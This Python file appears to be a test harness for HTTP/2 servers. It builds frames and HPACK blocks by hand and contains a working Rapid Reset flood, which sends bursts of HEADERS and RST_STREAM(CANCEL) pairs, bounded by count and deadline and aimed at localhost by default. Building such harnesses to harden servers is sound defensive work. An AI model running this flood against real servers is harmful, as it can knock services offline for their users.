"""A raw HTTP/2 client for abuse tests (rapid reset, CONTINUATION floods, HPACK bombs).

Standard library only: frames are built by hand, header blocks use the HPACK static table and
literal fields without Huffman coding. Every loop is bounded by a count and a deadline.
"""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xb


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first):
    """An HPACK integer (RFC 7541 section 5.1) whose first byte carries the bits `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def get_block(authority="localhost", path="/"):
    """:method GET, :scheme http, :path, :authority."""
    block = b"\x82\x86"  # static 2 (:method GET), 6 (:scheme http)
    block += b"\x84" if path == "/" else b"\x04" + hpack_int(len(path), 7, 0) + path.encode()
    block += b"\x01" + hpack_int(len(authority), 7, 0) + authority.encode()
    return block


class FloodResult:
    def __init__(self):
        self.streams = 0          # HEADERS+RST_STREAM pairs written
        self.goaway_code = None   # error code of the GOAWAY the server sent, if any
        self.closed = False       # the server closed the connection
        self.connections = 0


def _read_goaway(sock, result):
    """Non-blocking look at what the server sent; records a GOAWAY's error code."""
    buf = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except BlockingIOError:
            return buf
        except OSError:
            result.closed = True
            return buf
        if not chunk:
            result.closed = True
            return buf
        buf += chunk
        # Walk complete frames.
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            ftype = buf[3]
            payload = buf[9:9 + length]
            if ftype == GOAWAY and len(payload) >= 8:
                result.goaway_code = struct.unpack(">I", payload[4:8])[0]
            buf = buf[9 + length:]


def rapid_reset(port, max_streams, deadline_s, host="127.0.0.1"):
    """Opens connections and, on each, sends HEADERS then RST_STREAM(CANCEL) for new streams
    as fast as the socket takes them, until max_streams pairs went out or deadline_s passed.
    Reconnects when the server closes. Returns a FloodResult."""
    result = FloodResult()
    stop_at = time.monotonic() + deadline_s
    block = get_block()
    while result.streams < max_streams and time.monotonic() < stop_at:
        try:
            s = socket.create_connection((host, port), timeout=2)
        except OSError:
            break
        result.connections += 1
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        s.setblocking(False)
        stream_id = 1
        pending = b""
        try:
            while result.streams < max_streams and time.monotonic() < stop_at:
                batch = []
                for _ in range(64):
                    batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block))
                    batch.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                    stream_id += 2
                pending += b"".join(batch)
                sent_ok = True
                while pending:
                    try:
                        n = s.send(pending)
                        pending = pending[n:]
                    except BlockingIOError:
                        _read_goaway(s, result)
                        if result.closed or time.monotonic() >= stop_at:
                            sent_ok = False
                            break
                        time.sleep(0.001)
                    except OSError:
                        result.closed = True
                        sent_ok = False
                        break
                if not sent_ok:
                    break
                result.streams += 64
                _read_goaway(s, result)
                if result.closed or stream_id > 0x7FFFFF00:
                    break
        finally:
            s.close()
    return result
